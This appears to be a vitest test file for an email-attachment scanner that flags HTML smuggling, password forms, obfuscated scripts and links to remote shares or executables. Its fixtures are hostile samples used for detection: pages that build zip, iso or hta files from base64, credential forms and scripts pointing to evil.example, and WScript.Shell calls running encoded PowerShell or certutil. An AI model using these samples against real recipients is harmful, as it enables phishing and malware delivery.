import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { readHtmlFacts } from '../../../../../core/mail/attachment/script/html-facts.ts';
import { readScriptFacts } from '../../../../../core/mail/attachment/script/script-facts.ts';

import { detailsOf } from '../facts.ts';
import { processorMs } from '../../../../processor-time.ts';

const kinds = (facts: readonly { kind: string }[]): string[] => facts.map(({ kind }) => kind);

describe('a web page', () => {
  it('that puts a file together out of its own text is found out, with what is hidden in it', () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(3000, 7)]).toString('base64');
    const page = `<html><body><script>var d=atob("${zip}");var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()</script>`;
    expect(readHtmlFacts(page)).toEqual([
      { kind: 'html-smuggling', detail: 'atob( new Blob .download' },
      { kind: 'html-smuggling', detail: `base64 ${zip.length} = application/zip` },
      { kind: 'html-script', detail: '' },
    ]);
  });

  it('that asks for a password says where it goes; remote scripts are named', () => {
    const page =
      '<!doctype html><script src="https://evil.example/a.js"></script><form action="https://evil.example/take"><input name=p type="password"></form>';
    expect(readHtmlFacts(page)).toEqual([
      { kind: 'html-script', detail: 'https://evil.example/a.js' },
      { kind: 'html-form', detail: 'https://evil.example/take' },
    ]);
  });

  it('whose script writes or runs what it has decoded hides what it is, and where it sends what is typed', () => {
    const page =
      '<script>document.write(unescape("%3Cform action=https://evil.example/take%3E%3Cinput type=password%3E"))</script>';
    expect(readHtmlFacts(page)).toEqual([
      { kind: 'script-obfuscated', detail: 'document.write(unescape(' },
      { kind: 'html-script', detail: '' },
      { kind: 'html-form', detail: 'https://evil.example/take' },
    ]);
    for (const way of ['eval(atob("YQ=="))', 'Function(decodeURIComponent("a"))', 'b.innerHTML = window.atob("YQ==")'])
      expect(kinds(readHtmlFacts(`<script>${way}</script>`))).toContain('script-obfuscated');
    expect(kinds(readHtmlFacts('<script>var a = decodeURIComponent(location.search)</script>'))).not.toContain(
      'script-obfuscated',
    );
  });

  it.each([
    '<details open ontoggle="a()">',
    '<img src=x onerror=a()>',
    '<a href="java\nscript:a()">b</a>',
    '<iframe srcdoc="&lt;script&gt;"></iframe>',
    '<!-- <a title="--><script>a()</script>',
  ])('that runs something by whatever tag: %s', (page) => {
    expect(kinds(readHtmlFacts(page))).toEqual(['html-script']);
  });

  it('that asks for a password and does not say where it goes has a form all the same', () => {
    expect(readHtmlFacts('<form><input type=password>')).toEqual([{ kind: 'html-form', detail: '' }]);
    expect(detailsOf(readHtmlFacts('<form><button formaction=//evil.example/p>'), 'html-form')).toEqual([
      '//evil.example/p',
    ]);
  });

  it.each([
    [
      '<meta http-equiv="refresh" content="0;url=search-ms:query=a&crumb=location:\\\\evil.example@80\\share">',
      'search-ms:',
    ],
    ['<meta http-equiv=refresh content="0;url=file://203.0.113.9/s/a.url">', 'file://203.0.113.9/s/a.url'],
    ['<meta http-equiv=refresh content="0;url=https://evil.example/資料.iso?a">', 'https://evil.example/資料.iso?a'],
    ['<a href="search-ms:query=x&crumb=location:\\\\evil.example\\s">開く</a>', 'search-ms:'],
    ['<a href="http://203.0.113.9/a.exe">詳細</a>', 'http://203.0.113.9/a.exe'],
    ['<img src="file://203.0.113.9/s/a.png">', 'file://203.0.113.9/s/a.png'],
    ['<iframe src="\\\\203.0.113.9\\s\\a.html"></iframe>', '\\\\203.0.113.9\\s\\a.html'],
    ['<iframe src="https://evil.example/a.lnk"></iframe>', 'https://evil.example/a.lnk'],
  ])('that hands its reader to a share or a program without a script: %s', (page, address) => {
    const facts = readHtmlFacts(page);
    expect(kinds(facts)).toEqual(['dangerous-link']);
    expect(facts[0]?.detail).toContain(address);
  });

  it.each([
    '<a href="https://www.example.co.jp/index.aspx">www.example.co.jp</a> <a href="a.exe.html">b</a>',
    '<a href="page.aspx">a</a><a href="../list.py?a=b.exe">b</a><a href="#top">c</a><a href="mailto:a@example.com">d</a>',
    '<meta http-equiv="refresh" content="0; url=https://www.example.com/"><base href="https://www.example.com/">',
    '<img src="//cdn.example.com/a.png"><img src="data:image/png;base64,AAAA"><img src="議事録_files/image001.png">',
    '<link rel=File-List href="file:///C:/Users/a/b_files/filelist.xml"><a href="file:///C:/Users/a/b.docx">b</a>',
    '<iframe src="https://www.youtube.com/embed/a"></iframe><a href="https://click.example.com/?u=a.exe">a</a>',
  ])('that was saved, or is a newsletter, does not: %s', (page) => {
    expect(readHtmlFacts(page)).toEqual([]);
  });

  it('with a script that is too long to be read whole tells that', () => {
    expect(kinds(readHtmlFacts(`<script>${' '.repeat(1_100_000)}</script>`))).toContain('reading-cut');
  });

  it('that only shows something gives nothing, inline pictures included', () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.alloc(2000),
    ]).toString('base64');
    expect(readHtmlFacts(`<html><body><p>ご連絡</p><img src="data:image/png;base64,${png}">`)).toEqual([]);
    expect(readHtmlFacts('plain text')).toEqual([]);
  });
});

describe('a script', () => {
  it('says what it makes use of, and that it hides it', () => {
    const plain = 'var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -enc AAAABBBBCCCCDDDDEEEE");';
    expect(readScriptFacts(plain, 'a.js')).toEqual([
      { kind: 'script', detail: 'WScript.Shell, ActiveXObject, PowerShell, -EncodedCommand' },
    ]);
    const hidden = `x = ${Array.from({ length: 100 }, (_, at) => `Chr(${at})`).join(' & ')}`;
    expect(kinds(readScriptFacts(hidden, 'a.vbs'))).toEqual(['script', 'script-obfuscated']);
    expect(readScriptFacts('@echo off\r\ncertutil -decode a b', '手順')).toEqual([
      { kind: 'script', detail: 'certutil' },
    ]);
  });

  it('under the name of a text runs nothing: it is told as a text, when it makes use of what attacks use', () => {
    const told = [{ kind: 'script-text', detail: 'certutil' }];
    for (const name of ['readme.txt', '手順.TXT', 'setup.log', 'a.md', 'a.csv', 'a.bat.txt'])
      expect(readScriptFacts('@echo off\r\ncertutil -decode a b', name)).toEqual(told);
    expect(readScriptFacts(`#!/bin/sh\n${'A'.repeat(1200)}`, 'a.txt')).toEqual([
      { kind: 'script-text', detail: 'base64' },
    ]);
    expect(kinds(readScriptFacts('@echo off\r\ncertutil -decode a b', 'a.txt.bat'))).toEqual(['script']);
  });

  it.each([
    ['手順.txt', '@echo off\r\nnet use Z: \\\\fileserver\\share\r\npause\r\n'],
    ['readme.txt', '#!/bin/sh\necho hi\n'],
    [
      'package.xml',
      '<?xml version="1.0" encoding="UTF-8"?>\n<Package xmlns="http://example.com/2006"><types/></Package>',
    ],
  ])('that people send as a text in %s is none', (name, text) => {
    expect(readScriptFacts(text, name)).toEqual([]);
  });

  it('is no script by the words that an article about scripts uses', () => {
    expect(readScriptFacts('PowerShell を使った攻撃についての講演のご案内', '案内.txt')).toEqual([]);
  });

  it('of two million signs of one kind takes time and memory for the first of them', () => {
    const started = processorMs();
    const carets = '^'.repeat(2_000_000);
    for (let count = 0; count < 12; count += 1) readScriptFacts(carets, 'a.bat');
    expect(processorMs() - started).toBeLessThan(10_000);
    expect(detailsOf(readScriptFacts(carets, 'a.bat'), 'script-obfuscated')).toEqual(['> 2000, ^']);
  });

  it('behind, or in front of, padding is found, and that it was not read whole is told', () => {
    const call = 'CreateObject("WScript.Shell")';
    for (const text of [`${' '.repeat(3_000_000)}${call}`, `${call}${' '.repeat(3_000_000)}`]) {
      const facts = readScriptFacts(text, 'a.vbs');
      expect(detailsOf(facts, 'script')).toEqual(['WScript.Shell, CreateObject']);
      expect(kinds(facts)).toContain('reading-cut');
    }
  });

  it.each(['a.js.', 'a.JS ', 'a.js::$DATA'])('is one by the name that Windows sees: %s', (name) => {
    expect(kinds(readScriptFacts('x', name))).toEqual(['script']);
  });

  it('never throws; twice as much hostile text takes about twice as long', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 3000 }), (text) => {
        readScriptFacts(text, 'a.js');
        readHtmlFacts(`<html>${text}`);
      }),
      { numRuns: 200 },
    );
    const time = (text: string): number => {
      const from = processorMs();
      readHtmlFacts(text);
      readScriptFacts(text, 'a.js');
      return processorMs() - from;
    };
    for (const piece of ['<script ', '<form action=', `${'A'.repeat(999)} `, '"+', 'Chr ( ', '<input type']) {
      const once = piece.repeat(Math.ceil(400_000 / piece.length));
      time(once);
      // Far from quadratic (4), with room for a busy machine.
      expect(time(once + once)).toBeLessThan(Math.max(400, time(once) * 3.5));
    }
  });
});

describe('a page that puts together a file', () => {
  test.each([
    [
      '<a download="x.exe" href="data:application/octet-stream;base64,TVqQAAMA">c</a>',
      'data: x.exe = application/vnd.microsoft.portable-executable',
    ],
    [`<a href='data:text/html,hello' download>c</a>`, 'data: = text/plain'],
    [
      '<script>var f=window["ato"+"b"],B=window["Bl"+\'ob\'];navigator["msSave"+"OrOpenBlob"](new B([f("UEs=")]),"x.iso")</script>',
      'msSaveOrOpenBlob',
    ],
    [
      '<svg xmlns="http://www.w3.org/2000/svg"><script>location=URL.createObjectURL(new Blob([atob("x")]))</script></svg>',
      'location=',
    ],
    ['<a title=">" download="x.hta" href="data:application/hta;base64,PHNjcmlwdD4=">c</a>', 'data: x.hta = text/html'],
    ['<a download="x.hta" href="&#100;ata:application/hta;base64,PHNjcmlwdD4=">c</a>', 'data: x.hta = text/html'],
    ['<a download="x.hta" href="da\nta:application/hta;base64,PHNjcmlwdD4=">c</a>', 'data: x.hta = text/html'],
    ['<map><area download="x.hta" href="data:application/hta;base64,PHNjcmlwdD4="></map>', 'data: x.hta = text/html'],
    ['<meta http-equiv=refresh content="0;url=data:text/html;base64,PHNjcmlwdD4=">', 'data: = text/html'],
    ['<p><img src=x onerror="window.open(URL.createObjectURL(new Blob([&#97;tob(a)])))">', 'window.open('],
    [`<p>${'x'.repeat(200_000)}<script>a.href=URL.createObjectURL(new Blob([atob(b)]));a.click()</script>`, '.click('],
    [
      '<iframe srcdoc="<script>a.href=URL.createObjectURL(new Blob([atob(b)]));a.click()</script>"></iframe>',
      '.click(',
    ],
    ['<textarea><a title="</textarea><a download href=data:,x>', 'data: = text/plain'],
  ])('%s', (page, detail) => {
    expect(detailsOf(readHtmlFacts(page), 'html-smuggling').join()).toContain(detail);
  });

  test('is none that saves a picture, or only links', () => {
    const page =
      '<a download href="data:image/png;base64,iVBORw0KGgo=">c</a><a href="https://a.example/x" download>d</a>';
    expect(detailsOf(readHtmlFacts(page), 'html-smuggling')).toEqual([]);
  });

  test('is looked for in time that grows with its length', () => {
    const started = processorMs();
    for (const piece of [
      '<a ',
      '<a download href="data:',
      '"+"',
      '" + ',
      '<a href=data:,',
      '<!--',
      '<title>',
      '<script ',
    ])
      readHtmlFacts(`<a >${piece.repeat(200_000)}`);
    readHtmlFacts('<script src '.repeat(2_000_000));
    expect(processorMs() - started).toBeLessThan(10_000);
  });
});
